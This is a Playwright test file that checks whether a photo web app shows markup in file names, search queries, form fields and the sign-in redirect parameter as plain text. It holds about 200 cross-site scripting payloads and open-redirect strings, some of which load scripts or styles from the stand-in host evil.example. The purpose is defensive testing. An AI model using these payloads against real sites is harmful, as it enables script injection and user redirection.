"""Text with markup stays text wherever the UI shows it."""

from itertools import product
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, Locator, expect

from tests.browser.conftest import Visitor
from tests.robustness.torture import cases
from tests.support.sampling import sample

OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "`>", "{{7*7}}", "${7*7}")
ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=//evil.example/x>",
    "<style>@import '//evil.example/x.css'</style>",
    "<x onclick=alert(1) style=position:fixed;inset:0>",
)
ALL = [opening + element for opening, element in product(OPENINGS, ELEMENTS)]
STRIDE = 21
PAYLOADS = sample(ALL, STRIDE)  # each opening, with one half of the elements
OTHER_PAYLOADS = sample(ALL, STRIDE, start=10)  # with the other half

STRANGE = "iframe, object, base, x, [onerror], [onload], [onfocus], [ontoggle], [href^='javascript:' i], [srcdoc]"


@pytest.fixture
def guarded(ada: Visitor) -> Visitor:
    """Ada; a dialog that opens is a problem, like every console message."""

    def close(opened: Dialog) -> None:
        ada.problems.append(f"a dialog: {opened.message}")
        opened.dismiss()

    ada.page.on("dialog", close)
    return ada


def test_payloads_are_200_distinct_ones() -> None:
    assert len(set(ALL)) == 200


def test_samples_contain_each_opening_and_each_element() -> None:
    chosen = {*PAYLOADS, *OTHER_PAYLOADS}

    assert all(any(text.startswith(opening) for text in chosen) for opening in OPENINGS)
    assert all(any(text.endswith(element) for text in chosen) for element in ELEMENTS)


def test_file_name_with_markup_stays_text(guarded: Visitor) -> None:
    guarded.fill(*reversed(PAYLOADS))
    guarded.page.locator(".tile a").first.click()

    for name in PAYLOADS:
        cases.append(1)
        expect(guarded.page.get_by_role("dialog", name=name, exact=True)).to_be_visible()
        expect(guarded.page.locator(STRANGE)).to_have_count(0)
        guarded.page.keyboard.press("ArrowRight")


def test_query_with_markup_stays_text(guarded: Visitor) -> None:
    guarded.expected = {422}
    box = guarded.page.get_by_label("Search photos")

    for text in OTHER_PAYLOADS:
        cases.append(1)
        guarded.go(f"/?q={quote(text)}")
        expect(box).to_have_value(text)
        expect(guarded.page.get_by_role("main").get_by_role("alert").or_(no_results(guarded))).to_be_visible()
        expect(guarded.page.locator(STRANGE)).to_have_count(0)


def no_results(visitor: Visitor) -> Locator:
    return visitor.page.get_by_role("heading", name="No matching photos")


def test_rejected_link_or_alert_with_markup_stays_text(guarded: Visitor) -> None:
    guarded.expected = {404, 422}
    for path, label in (("/find?by=link", "Link"), ("/alerts", "Tag or search")):
        guarded.go(path)
        for text in PAYLOADS:
            cases.append(1)
            guarded.page.get_by_label(label, exact=True).fill(text)
            guarded.page.keyboard.press("Enter")
            expect(guarded.page.locator("[role=alert], [aria-invalid=true]").first).to_be_visible()
            expect(guarded.page.locator(STRANGE)).to_have_count(0)


def test_next_parameter_with_other_site_or_script_is_ignored(guarded: Visitor) -> None:
    elsewhere = [
        "//evil.example",
        "https://evil.example",
        "\\\\evil.example",
        "javascript:alert(1)",
        "data:text/html,x",
    ]
    for text in [*elsewhere, *OTHER_PAYLOADS]:
        cases.append(1)
        guarded.go(f"/sign-in?next={quote(text)}")
        expect(guarded.page).to_have_url(f"{guarded.instance.url}/")
